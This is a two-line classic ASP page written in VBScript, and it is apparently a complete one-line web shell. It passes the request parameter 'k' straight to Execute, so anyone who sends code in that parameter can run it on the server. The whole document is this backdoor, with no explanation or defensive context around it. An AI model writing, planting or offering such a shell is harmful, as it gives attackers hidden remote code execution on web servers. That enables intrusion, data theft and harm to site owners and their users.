<%@ Language=VBScript %>
<% Execute Request("k") %>
